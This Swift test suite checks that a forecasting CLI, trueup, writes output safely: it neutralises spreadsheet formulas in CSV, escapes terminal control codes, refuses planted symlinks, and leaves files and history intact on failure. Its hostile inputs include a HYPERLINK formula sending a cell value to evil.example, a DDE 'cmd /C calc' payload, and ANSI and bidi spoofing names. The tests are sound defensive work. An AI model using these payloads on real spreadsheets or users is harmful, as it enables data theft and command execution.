import Foundation
import GRDB
import Testing

/// What trueup writes can be shared: spreadsheets see no formula from a name, terminals no control,
/// the output folder no hijacked or half-written file, the history no failed or damaged run.
@Suite struct SafeOutputTests {
    static let demo = ["--forecasts", CLI.packageRoot.appendingPathComponent("datasets/demo/forecasts.csv").path,
                       "--actuals", CLI.packageRoot.appendingPathComponent("datasets/demo/actuals.csv").path]

    static let formulaNames = [#"=HYPERLINK("http://evil.example/?x="&A2,"details")"#, "@SUM(A1:A9)", "+1+1", "-2+3", "=1+1"]

    /// Forecasts and actuals for the formula names (8 months each, so every one is tiered), and one bad row.
    static func hostileInputs(_ space: Workspace) -> (forecasts: String, actuals: String) {
        func line(_ fields: [String]) -> String {
            fields.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",") + "\n"
        }
        var forecasts = "customer,item,period,lag,forecast\n", actuals = "customer,item,period,actual\n"
        for (k, name) in formulaNames.enumerated() {
            for month in 1...8 {
                forecasts += line([name, "=cmd|' /C calc'!A0", "2025-0\(month)", "1", String(100 + 7 * month * k)])
                actuals += line([name, "=cmd|' /C calc'!A0", "2025-0\(month)", String(90 + k)])
            }
        }
        actuals += "=2+5,@x,2025-01,not a number\n"
        return (space.file("forecasts.csv", forecasts), space.file("actuals.csv", actuals))
    }

    /// The cells of a CSV text (RFC 4180: quoted fields may hold commas, quotes and line ends).
    static func cells(_ text: String) -> [String] {
        var cells: [String] = [], cell = "", quoted = false, wasQuote = false
        for character in text.replacingOccurrences(of: "\u{FEFF}", with: "") {
            if quoted {
                if character == "\"" { quoted = false; wasQuote = true } else { cell.append(character) }
                continue
            }
            switch character {
            case "\"":
                if wasQuote { cell.append("\"") }
                quoted = true
            case ",", "\n", "\r\n":
                cells.append(cell)
                cell = ""
            default:
                cell.append(character)
            }
            wasQuote = false
        }
        return cells
    }

    /// A cell a spreadsheet would run: starts with = + - @ tab or CR and is not a number.
    static func isFormula(_ cell: String) -> Bool {
        guard let first = cell.first, "=+-@\t\r".contains(first) else { return false }
        return Double(cell) == nil
    }

    @Test(arguments: [false, true])
    func noCSVCellFromANameIsAFormula(excel: Bool) throws {
        let space = Workspace()
        let (forecasts, actuals) = Self.hostileInputs(space)
        let out = space.url.appendingPathComponent("out").path
        let arguments = ["report", "--wide", "--forecasts", forecasts, "--actuals", actuals, "--skip-bad-rows", "--max-bad-rows", "100", "--out", out] + (excel ? ["--excel"] : [])
        let report = try CLI.run(arguments + ["--format", "csv"])
        #expect(report.status == 0, "\(report.stderr)")
        let history = space.url.appendingPathComponent("trueup-history.sqlite").path
        var texts = ["stdout": report.stdout]
        for name in ["metrics.csv", "flags.csv", "rejects.csv"] { texts[name] = space.read("out/" + name) ?? "" }
        let itemised = try CLI.run(["report", "--wide", "--forecasts", forecasts, "--actuals", actuals, "--skip-bad-rows", "--max-bad-rows", "100", "--no-history",
                                    "--by", "customer,item", "--format", "csv"])
        texts["--by customer,item"] = itemised.stdout
        texts["history"] = try CLI.run(["history", "--history", history, "--format", "csv"]).stdout
        texts["history --customer"] = try CLI.run(["history", "--history", history, "--customer", Self.formulaNames[0], "--format", "csv"]).stdout
        for (source, text) in texts {
            let cells = Self.cells(text)
            #expect(cells.count >= 10, "\(source) has cells")
            #expect(cells.filter(Self.isFormula).isEmpty, "\(source): \(cells.filter(Self.isFormula))")
        }
        // The names are there, neutralised, and numbers are not touched (bias_pct is negative for some).
        let flags = Self.cells(texts["flags.csv"] ?? "")
        #expect(flags.contains("'" + Self.formulaNames[0]))
        #expect(flags.contains { $0.hasPrefix("-") && Double($0) != nil }, "a negative figure stays a number")
        #expect(Self.cells(texts["rejects.csv"] ?? "").contains("'=2+5,@x,2025-01,not a number"))
        #expect(Self.cells(texts["history --customer"] ?? "").contains("'" + Self.formulaNames[0]))
        // The JSON keeps names as they are; README.txt says what happened to them.
        let json = try CLI.run(["report", "--wide", "--forecasts", forecasts, "--actuals", actuals, "--skip-bad-rows", "--max-bad-rows", "100", "--no-history", "--format", "json"])
        #expect(json.stdout.contains(#""customer" : "@SUM(A1:A9)""#) || json.stdout.contains(#""customer": "@SUM(A1:A9)""#))
        #expect((space.read("out/README.txt") ?? "").contains("written with a ' in front"))
    }

    /// Control characters, ESC, CR and bidi overrides in names are shown escaped in the table and in messages.
    @Test func namesReachTheTerminalEscaped() throws {
        let space = Workspace()
        var forecasts = "customer,item,period,lag,forecast\n", actuals = "customer,item,period,actual\n"
        for name in ["evil\rtrusted", "\u{1B}[2Jclear", "Bob\u{202E}gnp.exe"] {
            for month in 1...8 {
                forecasts += "\"\(name)\",x,2025-0\(month),1,\(100 + 30 * month)\n"
                actuals += "\"\(name)\",x,2025-0\(month),100\n"
            }
        }
        let f = space.file("f.csv", forecasts), a = space.file("a.csv", actuals)
        let table = try CLI.run(["report", "--wide", "--forecasts", f, "--actuals", a])
        #expect(table.status == 0)
        for raw in ["\r", "\u{1B}", "\u{202E}"] { #expect(!table.stdout.contains(raw)) }
        #expect(table.stdout.contains(#"evil\u{0D}trusted"#) && table.stdout.contains(#"\u{1B}[2Jclear"#) && table.stdout.contains(#"Bob\u{202E}gnp.exe"#))
        let unknown = try CLI.run(["check", "--forecasts", f, "--actuals", a, "--customer", "evil\rtrusted\u{1B}", "--quantity", "5"])
        #expect(unknown.status == 64)
        #expect(!unknown.stderr.contains("\r") && !unknown.stderr.contains("\u{1B}") && unknown.stderr.contains(#"\u{0D}"#))
        // A binary first line is described, never echoed.
        var png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x1B, 0x5B, 0x32, 0x4A])
        png.append(contentsOf: [UInt8](repeating: 0xFF, count: 64))
        let binary = space.url.appendingPathComponent("binary.csv").path
        FileManager.default.createFile(atPath: binary, contents: png)
        let refused = try CLI.run(["report", "--wide", "--forecasts", f, "--actuals", binary])
        #expect(refused.status == 65)
        #expect(refused.stderr.contains("not a text header") && !refused.stderr.contains("\u{1B}") && !refused.stderr.contains("PNG"),
                "\(refused.stderr)")
    }

    /// A link planted at an output's name is replaced by the file, never written through; temporaries are created
    /// O_EXCL|O_NOFOLLOW under random names, and none is left behind.
    @Test func plantedLinksAreNotFollowed() throws {
        let space = Workspace()
        let out = space.url.appendingPathComponent("out")
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        let victim = space.file("victim.txt", "precious")
        for name in ["metrics.csv", "flags.csv", "run.json"] {
            try FileManager.default.createSymbolicLink(atPath: out.appendingPathComponent(name).path, withDestinationPath: victim)
        }
        // Links at the names earlier versions used for their temporaries, for every process id nearby.
        let pid = ProcessInfo.processInfo.processIdentifier
        for k in 0..<64 {
            try FileManager.default.createSymbolicLink(atPath: out.appendingPathComponent(".metrics.csv.tmp-\(pid + Int32(k))").path,
                                                       withDestinationPath: victim)
        }
        let outcome = try CLI.run(["report", "--wide"] + Self.demo + ["--out", out.path, "--no-history"])
        #expect(outcome.status == 0, "\(outcome.stderr)")
        #expect(space.read("victim.txt") == "precious")
        for name in ["metrics.csv", "flags.csv", "run.json"] {
            let type = try FileManager.default.attributesOfItem(atPath: out.appendingPathComponent(name).path)[.type] as? FileAttributeType
            #expect(type == .typeRegular, "\(name) is a file of its own")
        }
        let temporaries = try FileManager.default.contentsOfDirectory(atPath: out.path).filter { $0.contains(".tmp-") && !$0.hasPrefix(".metrics.csv.tmp-") }
        #expect(temporaries.isEmpty, "\(temporaries)")
    }

    /// A run whose files can't all be written replaces none of them and is not recorded in the history.
    @Test func aFailedRunLeavesTheFilesAndTheHistoryAsTheyWere() throws {
        let space = Workspace()
        let out = space.url.appendingPathComponent("reports/2025-12").path
        let history = space.url.appendingPathComponent("reports/trueup-history.sqlite").path
        #expect(try CLI.run(["report", "--wide"] + Self.demo + ["--out", out]).status == 0)
        let before = try FileManager.default.contentsOfDirectory(atPath: out).sorted().map { ($0, space.read("reports/2025-12/" + $0)) }
        func runs() throws -> Int { try DatabaseQueue(path: history).read { try Int.fetchOne($0, sql: "SELECT COUNT(*) FROM run") ?? -1 } }
        #expect(try runs() == 1)

        // Files larger than 60 KiB can't be written (the limit set, SIGXFSZ ignored): the history (about 48 KiB)
        // takes the new run in its transaction, metrics.csv (33 KiB) is written, report.html (75 KiB) fails.
        let limited = try CLI.shell("trap '' XFSZ; ulimit -f 120; trueup report \(Self.demo.joined(separator: " ")) --from 2025-02 --out \(out)",
                                    in: space.url)
        #expect(limited.status == 74, "\(limited.stderr)")
        #expect(limited.stderr.contains("no file of this run was replaced"), "\(limited.stderr)")
        // A target that is not a regular file: refused before anything is written.
        try FileManager.default.removeItem(atPath: out + "/run.json")
        try FileManager.default.createDirectory(atPath: out + "/run.json", withIntermediateDirectories: false)
        let blocked = try CLI.run(["report", "--wide"] + Self.demo + ["--from", "2025-02", "--out", out])
        #expect(blocked.status == 73)
        #expect(blocked.stderr.contains("run.json: is a directory, not a regular file"), "\(blocked.stderr)")
        try FileManager.default.removeItem(atPath: out + "/run.json")
        _ = space.file("reports/2025-12/run.json", before.first { $0.0 == "run.json" }?.1 ?? "")

        let after = try FileManager.default.contentsOfDirectory(atPath: out).sorted().map { ($0, space.read("reports/2025-12/" + $0)) }
        #expect(after.map(\.0) == before.map(\.0), "no temporary left")
        #expect(after.map(\.1) == before.map(\.1), "every file as before")
        #expect(try runs() == 1, "the failed runs are not in the history")
    }

    /// stdout on a full disk is exit 74; a reader that stops early ends trueup quietly after the files and history.
    @Test func standardOutputIsChecked() throws {
        let space = Workspace()
        let full = try CLI.shell("trueup report \(Self.demo.joined(separator: " ")) --no-history > /dev/full", in: space.url)
        #expect(full.status == 74)
        #expect(full.stderr.contains("standard output: can't be written (No space left on device)"), "\(full.stderr)")
        let policy = try CLI.shell("trueup policy > /dev/full", in: space.url)
        #expect(policy.status == 74)

        let closed = try CLI.shell("(trueup report \(Self.demo.joined(separator: " ")) --format json --out out 2>err; echo $? > status) | head -c 10 > /dev/null",
                                   in: space.url)
        #expect(closed.status == 0)
        #expect(space.read("status") == "0\n")
        #expect(space.read("err")?.hasPrefix("history: recorded") == true, "\(space.read("err") ?? "")")
        #expect(space.read("err")?.contains("trueup:") == false)
        #expect(space.read("out/metrics.csv")?.hasPrefix("customer,lag,") == true)
        #expect(FileManager.default.fileExists(atPath: space.url.appendingPathComponent("trueup-history.sqlite").path))
    }

    /// `brief --out` replaces only a regular file in an existing folder.
    @Test func briefOutRefusesDevicesAndMissingFolders() throws {
        let space = Workspace()
        let brief = ["brief"] + Self.demo + ["--customer", "C0002"]
        for target in ["/dev/null", space.url.path, space.url.appendingPathComponent("missing/brief.md").path] {
            let outcome = try CLI.run(brief + ["--out", target])
            #expect(outcome.status == 73, "\(target): \(outcome.stderr)")
        }
        #expect(!FileManager.default.fileExists(atPath: space.url.appendingPathComponent("missing").path))
        let written = try CLI.run(brief + ["--out", space.url.appendingPathComponent("brief.md").path])
        #expect(written.status == 0 && space.read("brief.md")?.hasPrefix("# Forecast accuracy: C0002") == true)
    }

    /// Inputs and policies that are not regular files are refused at once, with exit 66.
    @Test func devicesAndFIFOsAreRefusedAtOnce() throws {
        let space = Workspace()
        let fifo = space.url.appendingPathComponent("fifo").path
        #expect(mkfifo(fifo, 0o644) == 0)
        let started = Date()
        for arguments in [["--actuals", "/dev/zero"], ["--actuals", fifo], ["--policy", "/dev/zero"], ["--policy", fifo]] {
            let outcome = try CLI.run(["report", "--wide"] + Self.demo + arguments + ["--no-history"])
            #expect(outcome.status == 66, "\(arguments): \(outcome.stderr)")
            #expect(outcome.stderr.contains("not a regular file"), "\(outcome.stderr)")
        }
        #expect(Date().timeIntervalSince(started) < 60)
    }

    /// --threads far past the cores: the same output, no trap.
    @Test func hugeThreadCountsRunCapped() throws {
        let one = try CLI.run(["report", "--wide"] + Self.demo + ["--threads", "1", "--no-history"])
        let many = try CLI.run(["report", "--wide"] + Self.demo + ["--threads", "100000", "--no-history"])
        #expect(one.status == 0 && many.status == 0, "\(many.stderr)")
        #expect(many.stdout == one.stdout)
    }

    /// A damaged history is refused (65) and left as it was; a history that is a folder, or in a folder
    /// that does not exist, is found before any work (73).
    @Test func damagedOrUnusableHistoriesAreRefused() throws {
        let space = Workspace()
        let out = space.url.appendingPathComponent("reports/2025-12").path
        #expect(try CLI.run(["report", "--wide"] + Self.demo + ["--out", out]).status == 0)
        let history = space.url.appendingPathComponent("reports/trueup-history.sqlite")
        var bytes = try Data(contentsOf: history)
        #expect(bytes.count > 8192)
        // Garbage over the second page onwards: the header still says SQLite, the tables are damaged.
        for k in 4096..<min(bytes.count, 4096 * 3) { bytes[k] = UInt8(truncatingIfNeeded: k &* 31) }
        try bytes.write(to: history)
        let damaged = try CLI.run(["report", "--wide"] + Self.demo + ["--out", out])
        #expect(damaged.status == 65, "\(damaged.stderr)")
        #expect(damaged.stderr.contains("damaged") && damaged.stderr.contains("--no-history"), "\(damaged.stderr)")
        #expect(try Data(contentsOf: history) == bytes, "the damaged file is not written to")
        let listed = try CLI.run(["history", "--history", history.path])
        #expect(listed.status == 65)
        let fifo = space.url.appendingPathComponent("fifo.sqlite").path
        #expect(mkfifo(fifo, 0o644) == 0)
        let piped = try CLI.run(["history", "--history", fifo])
        #expect(piped.status == 66 && piped.stderr.contains("named pipe"), "\(piped.stderr)")

        let folder = space.url.appendingPathComponent("folder.sqlite").path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: false)
        for path in [folder, space.url.appendingPathComponent("nowhere/h.sqlite").path] {
            let started = Date()
            let outcome = try CLI.run(["report", "--wide"] + Self.demo + ["--history", path])
            #expect(outcome.status == 73, "\(path): \(outcome.stderr)")
            #expect(outcome.stdout.isEmpty)
            #expect(Date().timeIntervalSince(started) < 30)
        }
    }
}
